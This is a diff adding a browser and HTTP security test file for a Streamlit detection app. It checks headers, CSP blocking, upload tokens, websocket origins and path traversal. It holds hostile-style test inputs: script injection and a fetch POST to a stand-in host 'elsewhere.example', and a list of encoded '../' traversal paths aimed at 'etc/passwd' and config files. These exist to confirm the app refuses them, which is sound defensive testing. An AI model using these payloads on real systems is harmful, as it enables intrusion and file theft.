@@ -1,0 +1,217 @@
+"""The server as a stranger meets it: its health, its headers, and what it refuses."""
+
+from __future__ import annotations
+
+import http.client
+import json
+import re
+import subprocess
+import sys
+import urllib.error
+import urllib.request
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.browser.app_page import TIMEOUT_MS, AppPage
+from tests.browser.conftest import ROOT, Server, _free_port, _wait_until_healthy
+
+pytestmark = pytest.mark.browser
+
+# Collects what the browser blocks, from the first line of the page on.
+COLLECT = """
+window.blocked = [];
+document.addEventListener('securitypolicyviolation',
+  (event) => window.blocked.push(`${event.effectiveDirective} ${event.blockedURI}`));
+"""
+
+
+@pytest.fixture
+def server(app_server: Callable[[str], Server]) -> Server:
+    return app_server("app.py")
+
+
+def get(
+    server: Server, path: str, headers: dict[str, str] | None = None
+) -> tuple[int, dict, bytes]:
+    """Status, headers and body; the path goes out as it is, dots and all."""
+    connection = http.client.HTTPConnection(urlsplit(server.url).netloc, timeout=30)
+    connection.request("GET", path, headers=headers or {})
+    answer = connection.getresponse()
+    found = {name.lower(): value for name, value in answer.getheaders()}
+    body = b"" if answer.status == 101 else answer.read()
+    connection.close()
+    return answer.status, found, body
+
+
+def test_health_tells_how_the_process_is_and_nothing_of_the_machine(server: Server) -> None:
+    status, headers, body = get(server, "/health")
+    told = json.loads(body)
+    assert status == 200
+    assert headers["cache-control"] == "no-store"
+    assert sorted(told) == [
+        "models_loaded", "network_busy_s", "status", "uptime_s", "version", "waiting_for_network",
+    ]  # fmt: skip
+    assert told["status"] == "ok"
+    assert told["waiting_for_network"] == 0
+    assert told["uptime_s"] >= 0
+    assert told["version"] in (ROOT / "pyproject.toml").read_text()
+    assert b"/" not in body
+    assert b"\\" not in body
+
+
+def test_health_knows_the_model_once_a_visitor_has_loaded_it(app: AppPage, server: Server) -> None:
+    assert json.loads(get(server, "/health")[2])["models_loaded"] == ["lite0-fpn"]
+
+
+@pytest.mark.parametrize("path", ["/", "/health", "/_stcore/health", "/nowhere", "/static/nothing"])
+def test_every_answer_has_the_headers(server: Server, path: str) -> None:
+    _, headers, _ = get(server, path)
+    assert headers["x-content-type-options"] == "nosniff"
+    assert headers["referrer-policy"] == "same-origin"
+    assert "camera=(self)" in headers["permissions-policy"]
+    policy = headers["content-security-policy"]
+    assert "object-src 'none'" in policy
+    assert "frame-ancestors 'self';" in f"{policy};"
+    scripts = next(part for part in policy.split("; ") if part.startswith("script-src"))
+    assert "'unsafe-inline'" not in scripts
+    assert "'unsafe-eval'" not in scripts
+    assert "http" not in policy
+
+
+def test_nothing_that_the_app_needs_is_blocked(
+    new_page: Callable[..., Page], server: Server
+) -> None:
+    page = new_page()
+    page.add_init_script(COLLECT)
+    app = AppPage(page, server.url)
+    app.open()
+    assert app.number("shown") > 0
+    app.funnel_now()
+    for panel in ("Download and link", "Score and IoU"):
+        if app.key("panel").get_by_role("radio", name=panel).count():
+            app.panel(panel)
+    assert page.evaluate("window.blocked") == []
+    for title in ("NMS", "Anchor design", "Targets and loss"):
+        link = page.get_by_test_id("stSidebarNavLink").filter(has_text=title)
+        if link.count():
+            link.click()
+            app.idle()
+            expect(page.get_by_test_id("stException")).to_have_count(0)
+    assert page.evaluate("window.blocked") == []
+
+
+def test_what_comes_from_or_goes_to_elsewhere_is_blocked(
+    new_page: Callable[..., Page], server: Server
+) -> None:
+    page = new_page()
+    page.add_init_script(COLLECT)
+    AppPage(page, server.url).open()
+    page.evaluate(
+        """async () => {
+          const script = document.createElement('script');
+          script.src = 'https://elsewhere.example/x.js';
+          document.head.append(script);
+          const inline = document.createElement('script');
+          inline.textContent = 'window.ran = true';
+          document.head.append(inline);
+          try { await fetch('https://elsewhere.example/take', {method: 'POST'}); } catch {}
+          setTimeout('window.ran = true');
+          await new Promise((done) => setTimeout(done, 200));
+        }"""
+    )
+    blocked = page.evaluate("window.blocked")
+    assert "script-src-elem https://elsewhere.example/x.js" in blocked
+    assert "script-src-elem inline" in blocked
+    assert "connect-src https://elsewhere.example/take" in blocked
+    assert "script-src eval" in blocked
+    assert page.evaluate("window.ran") is None
+
+
+def test_an_upload_without_the_token_of_this_page_is_refused(server: Server) -> None:
+    request = urllib.request.Request(
+        f"{server.url}/_stcore/upload_file/session/file", data=b"x", method="PUT"
+    )
+    with pytest.raises(urllib.error.HTTPError) as refused:
+        urllib.request.urlopen(request, timeout=30)
+    assert refused.value.code in (400, 403)
+
+
+def test_a_page_elsewhere_cannot_open_a_session(server: Server) -> None:
+    handshake = {
+        "Connection": "Upgrade",
+        "Upgrade": "websocket",
+        "Sec-WebSocket-Version": "13",
+        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
+        "Sec-WebSocket-Protocol": "streamlit",
+    }
+    assert get(server, "/_stcore/stream", {**handshake, "Origin": server.url})[0] == 101
+    elsewhere = get(server, "/_stcore/stream", {**handshake, "Origin": "https://elsewhere.example"})
+    assert elsewhere[0] in (400, 403)
+
+
+OUTSIDE = ["app.py", "pyproject.toml", ".streamlit/config.toml", "etc/passwd"]
+WAYS = [
+    "/{}", "/../{}", "/..%2f{}", "/%2e%2e/{}", "/..\\{}", "/static/../{}", "/static/..%2f..%2f{}",
+    "/static/%2e%2e/%2e%2e/%2e%2e/{}", "/component/../{}", "/component/rpn_box_canvas/../../{}",
+    "/_stcore/bidi-components/rpn_box_canvas/../../{}", "/_stcore/bidi-components/..%2f{}",
+    "/media/../{}", "/media/..%2f{}", "/app/static/{}", "/app/static/../{}", "//{}", "/static//{}",
+    "/static/" + "..%2f" * 12 + "{}", "/component/" + "../" * 12 + "{}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_no_path_leads_to_a_file_of_the_machine(server: Server, way: str) -> None:
+    for name in OUTSIDE:
+        _, _, body = get(server, way.format(name))
+        for words in (b"set_page_config", b"[project]", b"gatherUsageStats", b"root:"):
+            assert words not in body
+
+
+def test_the_camera_is_the_only_device_that_a_page_may_ask_for(app: AppPage) -> None:
+    allowed = app.page.evaluate("document.featurePolicy.allowedFeatures()")
+    assert "camera" in allowed
+    assert not {"microphone", "geolocation", "usb", "payment"} & set(allowed)
+    expect(app.page.get_by_test_id("stException")).to_have_count(0, timeout=TIMEOUT_MS)
+
+
+@contextmanager
+def served(port: int, folder: Path) -> Iterator[subprocess.Popen[bytes]]:
+    """The app on this port, until the body has ended or has killed it."""
+    with (folder / "log.txt").open("ab") as log:
+        process = subprocess.Popen(
+            [sys.executable, "-m", "streamlit", "run", str(ROOT / "app.py"),
+             f"--server.port={port}", "--server.address=127.0.0.1"],
+            cwd=ROOT, stdout=log, stderr=subprocess.STDOUT,
+        )  # fmt: skip
+    try:
+        _wait_until_healthy(f"http://127.0.0.1:{port}", process, folder / "log.txt")
+        yield process
+    finally:
+        process.kill()
+        process.wait()
+
+
+def test_a_server_that_is_killed_and_comes_back_finds_the_visitor_s_state_in_the_link(
+    new_page: Callable[..., Page], tmp_path: Path
+) -> None:
+    page, port = new_page(), _free_port()
+    app = AppPage(page, f"http://127.0.0.1:{port}")
+    with served(port, tmp_path) as process:
+        app.open("nms=0.5")
+        shown = app.number("shown")
+        process.kill()
+        process.wait()
+        said = page.get_by_role("dialog").filter(has_text="server is not responding")
+        expect(said).to_be_visible(timeout=TIMEOUT_MS)
+        expect(app.root).to_be_visible()  # the picture stays, and can be looked at
+    with served(port, tmp_path):
+        expect(said).to_have_count(0, timeout=TIMEOUT_MS)
+        app.idle()
+        expect(page).to_have_url(re.compile(r"\?nms=0\.5$"))
+        app.until(lambda: app.number("shown") == shown, "the same boxes are shown")
+        app.shows_no_traceback()
